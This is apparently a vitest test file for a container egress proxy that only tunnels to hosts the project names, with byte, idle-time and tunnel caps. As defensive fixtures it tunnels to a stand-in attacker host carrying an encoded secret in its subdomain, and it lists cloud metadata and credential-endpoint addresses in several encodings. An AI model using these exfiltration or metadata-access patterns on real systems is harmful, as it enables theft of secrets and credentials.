import { once } from 'node:events';
import { createServer, request as httpRequest } from 'node:http';
import { type AddressInfo, connect, type Server, type Socket, createServer as tcpServer } from 'node:net';
import { text } from 'node:stream/consumers';
import { afterEach, expect, it } from 'vitest';
import { isPublic } from '#adapters/addresses.ts';
import { type Denial, egressProxy, type ProxyOptions } from '#containers/egress/proxy.ts';

const open: Server[] = [];
const sockets: Socket[] = [];
let denials: Denial[] = [];
afterEach(async () => {
  for (const socket of sockets.splice(0)) socket.destroy();
  for (const server of open.splice(0)) server.close();
  denials = [];
});

async function listening(server: Server): Promise<number> {
  open.push(server);
  server.on('connection', (socket) => void sockets.push(socket));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

/** A proxy whose names all lead to this machine, and which takes this machine for the internet unless told otherwise. */
async function proxy(options: Partial<ProxyOptions>): Promise<number> {
  const given: ProxyOptions = {
    hosts: [],
    onDenied: (denial) => void denials.push(denial),
    resolve: async () => ['127.0.0.1'],
    mayConnect: (address) => address === '127.0.0.1' || isPublic(address),
    ...options,
  };
  return listening(egressProxy(given));
}

/** What the proxy answers to CONNECT, and the tunnel. */
async function tunnel(
  port: number,
  authority: string,
): Promise<{ status: number; socket: Socket; said: string }> {
  const request = httpRequest({
    port,
    host: '127.0.0.1',
    method: 'CONNECT',
    path: authority,
    agent: false,
  }).end();
  const [response, socket, head] = await once(request, 'connect');
  sockets.push(socket);
  socket.unshift(head);
  const said = response.statusCode === 200 ? '' : await text(socket);
  return { status: response.statusCode, socket, said };
}

async function site(answer: (socket: Socket) => void): Promise<string> {
  return `site.example:${await listening(tcpServer(answer))}`;
}

it('passes bytes both ways to a host that the project names', async () => {
  const host = await site((socket) => socket.pipe(socket));
  const { status, socket } = await tunnel(await proxy({ hosts: [host] }), host);
  socket.end('there and back');

  expect(status).toBe(200);
  expect(await text(socket)).toBe('there and back');
  expect(denials).toEqual([]);
});

it('counts what it passes on, beginning with what was passed on before', async () => {
  const carried = { up: 100, down: 0 };
  const host = await site((socket) => socket.pipe(socket));
  const { socket } = await tunnel(await proxy({ hosts: [host], carried }), host);
  socket.end('0123456789');

  expect(await text(socket)).toBe('0123456789');
  expect(carried).toMatchObject({ up: 110, down: 10 });
});

it('does not even look up a name that the project does not name', async () => {
  const looked: string[] = [];
  const resolve = async (name: string) => {
    looked.push(name);
    return ['127.0.0.1'];
  };
  const { status, said } = await tunnel(await proxy({ resolve }), 'c2VjcmV0.evil.example:443');

  expect(status).toBe(403);
  expect(said).toMatch(/the project does not name it/);
  expect(looked).toEqual([]);
  expect(denials).toEqual([{ to: 'c2VjcmV0.evil.example:443', why: 'the project does not name it' }]);
});

it.each([
  ['loopback', '127.0.0.1'],
  ['the credentials endpoint', '169.254.170.2'],
  ['the metadata service', '169.254.169.254'],
  ['a private network', '10.1.2.3'],
  ['a private network', '172.31.0.1'],
  ['a private network', '192.168.1.1'],
  ['carrier NAT', '100.64.0.1'],
  ['this network', '0.0.0.0'],
  ['IPv6 loopback', '::1'],
  ['an IPv4 address in IPv6', '::ffff:169.254.169.254'],
  ['an IPv4 address in IPv6, in hexadecimal', '::ffff:a9fe:a9fe'],
  ['an IPv4 address, translated', '64:ff9b::a9fe:a9fe'],
  ['an IPv4 address by 6to4', '2002:a9fe:a9fe::1'],
  ['unique local', 'fd00:ec2::254'],
  ['link-local', 'fe80::1'],
])('refuses a name that leads to %s (%s)', async (_what, address) => {
  const resolve = async () => ['93.184.216.34', address];
  const port = await proxy({ hosts: ['site.example'], resolve, mayConnect: isPublic });

  expect((await tunnel(port, 'site.example:443')).status).toBe(403);
  expect(denials).toEqual([{ to: 'site.example:443', why: `its address ${address} is not on the internet` }]);
});

it.each(['93.184.216.34', '2606:2800:220:1:248:1893:25c8:1946'])('takes %s for the internet', (address) => {
  expect(isPublic(address)).toBe(true);
});

it('connects to the address that it judged, whatever the name leads to a moment later', async () => {
  const host = await site((socket) => socket.end('public'));
  const answers = [['127.0.0.1'], ['169.254.169.254']];
  const resolve = async () => answers.shift() ?? [];
  const port = await proxy({ hosts: [host], resolve });

  const { socket } = await tunnel(port, host);
  expect(await text(socket)).toBe('public');
  expect((await tunnel(port, host)).status).toBe(403);
});

it('judges where a redirect leads as it judges everything', async () => {
  const server = createServer((_request, response) =>
    response.writeHead(302, { location: 'https://evil.example/' }).end(),
  );
  const host = `site.example:${await listening(server)}`;
  const port = await proxy({ hosts: [host] });
  const { socket } = await tunnel(port, host);
  socket.write('GET / HTTP/1.0\r\n\r\n');
  const [, location = ''] = /location: (\S+)/i.exec(await text(socket)) ?? [];

  expect((await tunnel(port, `${new URL(location).hostname}:443`)).status).toBe(403);
});

it('passes nothing on but CONNECT', async () => {
  const port = await proxy({ hosts: ['site.example'] });
  const request = httpRequest({ port, host: '127.0.0.1', path: 'http://site.example/' }).end();
  const [response] = await once(request, 'response');

  expect(response.statusCode).toBe(405);
  expect(denials).toHaveLength(1);
});

it('ends what sends more than it may, and refuses the rest', async () => {
  let received = 0;
  const host = await site((socket) =>
    socket.on('data', (chunk) => (received += chunk.length)).on('error', () => {}),
  );
  const port = await proxy({ hosts: [host], caps: { up: 100_000 } });
  const first = await tunnel(port, host);
  first.socket.on('error', () => {}).write(Buffer.alloc(60_000));
  const second = await tunnel(port, host);
  second.socket.on('error', () => {}).write(Buffer.alloc(60_000));
  await once(second.socket, 'close');

  expect(received).toBeLessThanOrEqual(120_000);
  expect(denials).toEqual([{ to: host, why: 'more than 100000 bytes sent' }]);
  const third = await tunnel(port, host);
  third.socket.on('error', () => {}).write('x');
  await once(third.socket, 'close');
});

it('ends what receives more than it may', async () => {
  const host = await site((socket) => socket.on('error', () => {}).write(Buffer.alloc(2_000_000)));
  const { socket } = await tunnel(await proxy({ hosts: [host], caps: { down: 1_000_000 } }), host);
  socket.on('error', () => {}).resume();
  await once(socket, 'close');

  expect(denials).toEqual([{ to: host, why: 'more than 1000000 bytes received' }]);
});

it('ends a tunnel in which nothing moves', async () => {
  const host = await site((socket) => socket.on('error', () => {}).write('x'));
  const { socket } = await tunnel(await proxy({ hosts: [host], caps: { idle: 100 } }), host);
  socket.resume();

  await once(socket, 'close');
});

it('has room for so many tunnels, and again when one ends', async () => {
  const host = await site((socket) => socket.on('error', () => {}));
  const port = await proxy({ hosts: [host], caps: { tunnels: 1 } });
  const first = await tunnel(port, host);

  expect((await tunnel(port, host)).status).toBe(403);
  first.socket.destroy();
  await expect.poll(async () => (await tunnel(port, host)).status).toBe(200);
});

it('answers what cannot be reached without calling it refused', async () => {
  const port = await proxy({ hosts: ['site.example:1'] });

  expect((await tunnel(port, 'site.example:1')).status).toBe(502);
  expect(denials).toEqual([]);
});

it('outlives nonsense', async () => {
  const port = await proxy({});
  const socket = connect(port, '127.0.0.1').on('error', () => {});
  socket.end('\u0000nonsense\r\n\r\n').resume();
  await once(socket, 'close');

  expect((await tunnel(port, 'evil.example:443')).status).toBe(403);
});
